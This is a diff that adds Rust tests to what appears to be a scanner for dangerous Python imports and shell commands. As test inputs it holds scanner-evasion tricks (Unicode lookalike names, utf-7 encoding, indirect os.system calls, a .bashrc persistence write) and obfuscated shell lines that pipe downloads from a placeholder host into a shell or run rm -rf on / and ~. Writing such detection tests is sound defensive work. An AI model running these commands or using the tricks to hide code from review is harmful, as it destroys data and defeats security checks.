@@ -141,3 +141,39 @@ proptest! {
         check_torchscript(&text);
     }
 }
+
+#[test]
+fn ways_around() {
+    let (runs, hidden) = (&["python/runs-program"][..], &["python/hidden-code"][..]);
+    import("import \u{1d45c}\u{1d460}\n\u{1d45c}\u{1d460}.\u{ff53}ystem('id')\n", runs);
+    import("# coding: utf-7\nimport x\n", hidden);
+    import("# -*- coding: latin-1 -*-\nimport x\n", &[]);
+    import("import os\nos.__dict__.get('system')('id')\n", runs);
+    import("import os\nclass M:\n    __class_getitem__ = os.system\n", runs);
+    import("import os\nx.submit(os.system, 'id')\n", runs);
+    import("parser.add_argument('--x', type=eval)\n", &[]);
+    import("exec(open('weights.bin').read())\n", hidden);
+    import("exec(open('pkg/version.py').read())\n", &["python/worth-knowing"]);
+    import(
+        "import pathlib\n(pathlib.Path.home() / '.bashrc').write_text('x')\n",
+        &["python/persists"],
+    );
+    import("x = 'a\u{202e}b'\n", &["python/not-read"]);
+}
+
+#[test]
+fn commands_as_a_shell_takes_them() {
+    for (line, harms) in [
+        ("c=cur; ${c}l -s http://h/x | s''h", true),
+        ("eval \"$(echo x | rev)\"", true),
+        ("source <(wget -qO- http://h/x)", true),
+        ("rm -rf / ", true),
+        ("rm -rf ~/*", true),
+        ("rm -rf /var/lib/apt/lists/*", false),
+        ("rm -rf build $HOME/.cache/x", false),
+        ("curl -LsSf https://astral.sh/uv/install.sh | sh", false),
+        ("x=1; echo ${x} | tee log", false),
+    ] {
+        assert_eq!(!check_shell(line).is_empty(), harms, "{line}");
+    }
+}
